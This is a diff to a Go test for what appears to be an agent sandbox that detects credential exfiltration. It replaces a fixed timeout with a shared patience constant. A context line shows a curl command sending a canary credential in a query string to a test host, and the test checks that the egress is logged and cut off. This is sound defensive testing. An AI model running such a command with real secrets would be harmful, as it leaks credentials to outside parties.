@@ -8,6 +8,8 @@ import (
 	"strings"
 	"testing"
 	"time"
+
+	"bottle.internal/tests/eventually"
 )
 
 // canaries has the agent find a credential that looks real, and send it to an allowed host.
@@ -27,7 +29,7 @@ curl -sS -o /dev/null -w '%{http_code}' "https://open.bottle.test/v1/x?q=$key" 2
 	}
 	var open []string
 	var seen, cut bool
-	for begin := time.Now(); time.Since(begin) < 10*time.Second; time.Sleep(100 * time.Millisecond) {
+	for begin := time.Now(); time.Since(begin) < eventually.Patience; time.Sleep(100 * time.Millisecond) {
 		lines := s.audited(t, s.id)[began:]
 		seen = told(lines, "egress", "canary", "open.bottle.test") == 1
 		cut = slices.ContainsFunc(lines, func(r record) bool { return r.Event == "cut-off" })
